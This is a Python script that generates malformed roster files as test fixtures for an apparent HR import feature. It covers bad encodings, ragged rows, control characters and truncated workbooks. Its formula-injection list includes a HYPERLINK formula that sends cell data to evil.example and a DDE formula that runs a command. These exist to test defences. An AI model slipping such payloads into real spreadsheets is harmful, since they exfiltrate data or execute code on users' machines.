"""Make the nasty roster files in tests/data/nasty/: small files that real HR exports,
careless renames and hostile senders produce.

    python tests/data/make_nasty.py            # (re)writes tests/data/nasty/

The output is deterministic (seeded), and tests/importing/test_nasty_files.py checks
that the committed files are exactly what this script makes. Big nasty files (a ZIP
bomb, 100,000 rows) are made by the tests at run time in a temporary folder, never
committed.
"""

from __future__ import annotations

import io
import random
import sys
import zipfile
from collections.abc import Callable
from pathlib import Path

NASTY = Path(__file__).resolve().parent / "nasty"

PEOPLE_HEADER = "Name,Email,Employee ID,Department,Manager,Can mentor\r\n"


def _lines(*rows: str) -> str:
    return "".join(f"{row}\r\n" for row in rows)


def cp1252_semicolons() -> bytes:
    """What Excel on a European Windows writes as "CSV": Windows-1252 and semicolons."""
    text = _lines(
        "Name;E-mail;Dept;Mentor",
        "Zoë Ångström;zoe@example.org;Façade;yes",
        "Jürgen Groß;jurgen@example.org;Rechnungswesen €;no",
        "Nuño Peña;nuno@example.org;Diseño;yes",
    )
    return text.encode("cp1252")


def utf16_tabs() -> bytes:
    """Excel's "Unicode text": UTF-16 with a byte order mark, tab-separated."""
    text = _lines(
        "Full name\tWork email\tDept\tIs mentor",
        "Ōtani Shōhei\tshohei@example.org\t営業\tyes",
        "Ελένη Παππά\teleni@example.org\tΛογιστήριο\tno",
    )
    return text.encode("utf-16")


def utf16_without_bom() -> bytes:
    text = _lines("Name,Email", "Ana Ruiz,ana@example.org", "Bo Li,bo@example.org")
    return text.encode("utf-16-le")


def utf8_bom_semicolons() -> bytes:
    text = _lines(
        "Name;Email;Skills",
        "Ana Ruiz;ana@example.org;python, sql",
        'Bo Li;bo@example.org;"negotiation; coaching"',
    )
    return b"\xef\xbb\xbf" + text.encode("utf-8")


def invalid_bytes() -> bytes:
    """Neither UTF-8 nor Windows-1252: bytes no Windows code page defines."""
    return b"Name,Email\r\nAna\x81\x8d\x8f,ana@example.org\r\n"


def ragged_rows() -> bytes:
    return (
        PEOPLE_HEADER
        + _lines(
            "Ana,ana@example.org,E1,Ops,,yes",
            "Bo,bo@example.org,E2",
            "Cy,cy@example.org,E3,Ops,,no,Lisbon,extra",
            "Dee,dee@example.org,E4,Ops,e1,no,,",
        )
    ).encode("utf-8")


FORMULA_NAMES = (
    '=HYPERLINK("http://evil.example/?x="&A1,"Click")',
    "=cmd|' /C calc'!A0",
    "+SUM(1+1)",
    "-2+3",
    "@SUM(A1:A2)",
    "\t=1+1",
)


def formula_injection() -> bytes:
    rows = ["Name,Email"]
    for number, name in enumerate(FORMULA_NAMES):
        quoted = '"' + name.replace('"', '""') + '"'
        rows.append(f"{quoted},f{number}@example.org")
    return _lines(*rows).encode("utf-8")


def empty() -> bytes:
    return b""


def blank_lines() -> bytes:
    return b"\r\n\r\n,,\r\n  \r\n\t\r\n"


def header_only() -> bytes:
    return PEOPLE_HEADER.encode("utf-8")


def binary_junk() -> bytes:
    return random.Random(5).randbytes(4096)


def old_excel() -> bytes:
    return b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + random.Random(6).randbytes(2048)


def zip_not_workbook() -> bytes:
    stream = io.BytesIO()
    with zipfile.ZipFile(stream, "w") as archive:
        info = zipfile.ZipInfo("readme.txt", date_time=(2027, 1, 1, 0, 0, 0))
        archive.writestr(info, "not a workbook")
    return stream.getvalue()


def truncated_workbook() -> bytes:
    from openpyxl import Workbook

    workbook = Workbook()
    sheet = workbook.active
    sheet.append(["Name", "Email"])
    for number in range(200):
        sheet.append([f"Person {number}", f"p{number}@example.org"])
    stream = io.BytesIO()
    workbook.save(stream)
    # The ZIP's timestamps change from run to run, and so does the compressed size of
    # the document properties: cut the stable archive, not the saved one. Its first
    # half still has the local headers of the workbook's first parts, which is what
    # matters.
    stable = _stable_zip(stream.getvalue())
    return stable[: len(stable) // 2]


def _stable_zip(data: bytes) -> bytes:
    """The same archive with fixed timestamps and without the document properties
    (which hold the time of saving), so the file is the same every run."""
    source = zipfile.ZipFile(io.BytesIO(data))
    stream = io.BytesIO()
    with zipfile.ZipFile(stream, "w", compression=zipfile.ZIP_DEFLATED) as archive:
        for info in source.infolist():
            if info.filename.startswith("docProps/"):
                continue
            fixed = zipfile.ZipInfo(info.filename, date_time=(2027, 1, 1, 0, 0, 0))
            fixed.compress_type = zipfile.ZIP_DEFLATED
            archive.writestr(fixed, source.read(info))
    return stream.getvalue()


def unclosed_quote() -> bytes:
    return _lines("Name,Email", '"Ana Ruiz,ana@example.org', "Bo Li,bo@example.org").encode()


def nul_bytes() -> bytes:
    return b"Name,Email\r\nA\x00na,ana@example.org\r\nBo,bo@example.org\r\n"


def no_name_column() -> bytes:
    return _lines("Email,Department", "ana@example.org,Ops").encode("utf-8")


def duplicate_columns() -> bytes:
    return _lines("Name,Email,Work email", "Ana,ana@example.org,ana@work.example").encode()


def huge_cell() -> bytes:
    return _lines("Name,Email,Skills", "Ana,ana@example.org," + "x" * 40_000).encode("utf-8")


def control_characters() -> bytes:
    """Terminal escape sequences and bells in names: never echoed to a terminal raw."""
    return _lines(
        "Name,Email",
        "Ana\x1b[31m Ruiz\x07,ana@example.org",
        "Bo\x08\x08Li,bo@example.org",
    ).encode("utf-8")


def deep_chain() -> bytes:
    """500 people, each managed by the next one down the file."""
    rows = ["Name,Email,Manager"]
    for number in range(500):
        manager = f"p{number + 1}@example.org" if number < 499 else ""
        rows.append(f"Person {number},p{number}@example.org,{manager}")
    return _lines(*rows).encode("utf-8")


def manager_cycle() -> bytes:
    return _lines(
        "Name,Email,Manager",
        "Ana,ana@example.org,bo@example.org",
        "Bo,bo@example.org,ana@example.org",
        "Cy,cy@example.org,",
    ).encode("utf-8")


def pairs_bad_dates() -> bytes:
    return _lines(
        "Mentor,Mentee,Start,Planned end",
        "ana@example.org,bo@example.org,31/02/2027,",
        "ana@example.org,bo@example.org,2027-13-01,",
        "ana@example.org,bo@example.org,yesterday,",
        "ana@example.org,bo@example.org,2027-01-11,1/1/0001",
    ).encode("utf-8")


FILES: dict[str, Callable[[], bytes]] = {
    "cp1252_semicolons.csv": cp1252_semicolons,
    "utf16_tabs.csv": utf16_tabs,
    "utf16_without_bom.csv": utf16_without_bom,
    "utf8_bom_semicolons.csv": utf8_bom_semicolons,
    "invalid_bytes.csv": invalid_bytes,
    "ragged_rows.csv": ragged_rows,
    "formula_injection.csv": formula_injection,
    "empty.csv": empty,
    "blank_lines.csv": blank_lines,
    "header_only.csv": header_only,
    "binary_junk.csv": binary_junk,
    "binary_junk.xlsx": binary_junk,
    "old_excel.xls": old_excel,
    "old_excel_renamed.xlsx": old_excel,
    "zip_not_workbook.xlsx": zip_not_workbook,
    "truncated.xlsx": truncated_workbook,
    "unclosed_quote.csv": unclosed_quote,
    "nul_bytes.csv": nul_bytes,
    "no_name_column.csv": no_name_column,
    "duplicate_columns.csv": duplicate_columns,
    "huge_cell.csv": huge_cell,
    "control_characters.csv": control_characters,
    "deep_chain.csv": deep_chain,
    "manager_cycle.csv": manager_cycle,
    "pairs_bad_dates.csv": pairs_bad_dates,
}


def build(folder: Path) -> list[Path]:
    """Write every nasty file into ``folder``; returns their paths."""
    folder.mkdir(parents=True, exist_ok=True)
    written = []
    for name, make in FILES.items():
        path = folder / name
        path.write_bytes(make())
        written.append(path)
    return written


if __name__ == "__main__":
    for path in build(Path(sys.argv[1]) if len(sys.argv) > 1 else NASTY):
        print(f"{path.stat().st_size:>8,}  {path.name}")
